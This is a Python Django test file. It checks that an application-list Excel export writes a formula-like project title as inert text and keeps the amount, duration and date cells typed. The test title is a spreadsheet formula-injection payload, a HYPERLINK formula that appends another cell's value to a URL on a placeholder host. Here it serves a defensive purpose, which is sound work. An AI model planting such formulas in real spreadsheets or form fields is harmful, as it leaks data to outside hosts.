"""The application list export writes a formula-like project title as text, money and time typed."""

import io

from django.urls import reverse
from openpyxl import load_workbook

from kechuang.programs import services

from .conftest import GOOD

EVIL = '=HYPERLINK("http://x?d="&A3,"查看")'


def test_application_export_writes_a_formula_title_as_text(client, prog):
    app = services.submit(
        prog["ent_user"], services.save_draft(prog["ent_user"], prog["call"], {**GOOD, "title": EVIL})
    )
    client.force_login(prog["staff"])
    response = client.get(reverse("programme_application_export"))
    header, row = list(load_workbook(io.BytesIO(response.content)).active.iter_rows())
    by = {h.value: c for h, c in zip(header, row, strict=True)}
    assert by["项目名称"].value == EVIL and by["项目名称"].data_type == "s"
    assert by["申请金额（万元）"].value == 300 and by["申请金额（万元）"].number_format == "#,##0.00"
    assert by["实施期（月）"].value == 24 and by["实施期（月）"].data_type == "n"
    assert by["提交时间"].is_date and app.submitted_at is not None
